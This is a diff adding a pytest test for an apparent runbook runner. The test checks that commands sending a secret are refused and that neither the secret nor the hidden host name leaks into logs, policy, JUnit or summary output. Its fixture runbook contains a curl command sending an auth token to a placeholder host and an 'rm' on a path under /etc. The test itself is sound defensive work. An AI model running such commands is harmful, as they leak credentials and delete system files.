@@ -181,6 +181,44 @@ def test_in_no_way_is_it_stored_or_shown(place: Path) -> None:
     assert everything["shown 0"].count(b"[REDACTED:") > 200
 
 
+REFUSED = f"""# Refused
+
+## 1. Would send
+
+```bash
+curl -H 'Auth: {VALUE}' https://HiddenHost99.example/
+rm /etc/HiddenHost99
+```
+"""
+
+
+def test_in_no_refusal_either(place: Path) -> None:
+    """A host is known in lower case, whatever case it was written in."""
+    (place / "refused.runbook.md").write_text(REFUSED)
+    secrets = {"SPELLED_TOKEN": VALUE, "HOST_KEY": "HiddenHost99"}
+    runner = {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(place / "summary.md")}
+    sends = ("bash", "-c", f"curl -H 'Auth: {VALUE}' https://hiddenhost99.example/")
+    suggest = ("run", "refused.runbook.md", "--non-interactive", "--suggest-policy", "policy.yaml")
+    shown = {}
+    for words, code, environment in (
+        ((*suggest, "--junit", "junit.xml"), 3, runner),
+        (("run", "refused.runbook.md", "--dry-run"), 3, {}),
+        (("run", "refused.runbook.md", "--dry-run", "--json"), 3, {}),
+        (("exec", "--non-interactive", "--", *sends), 126, {}),
+        (("exec", "--non-interactive", "--explain", "--", *sends), 126, {}),
+        (("policy", "explain", "--", sends[-1]), 0, {}),
+        (("run", "refused.runbook.md", "--from", "HiddenHost99"), 2, {}),
+        (("run", "refused.runbook.md", "--hiddenhost99"), 2, {}),
+    ):
+        told = rundown(place, *words, environment=secrets | environment)
+        assert told.returncode == code, told.stderr
+        shown[" ".join(words)] = told.stdout + told.stderr
+    shown |= {name: (place / name).read_text() for name in ("policy.yaml", "junit.xml", "summary.md")}
+    found = [(name, text) for name, text in shown.items() if VALUE in text or "hiddenhost" in text.lower()]
+    assert found == []
+    assert "# no line can allow: net [REDACTED:HOST_KEY].example:443" in shown["policy.yaml"]
+
+
 @pytest.mark.terminal
 def test_in_no_question_either(place: Path) -> None:
     (place / "asks.runbook.md").write_text(
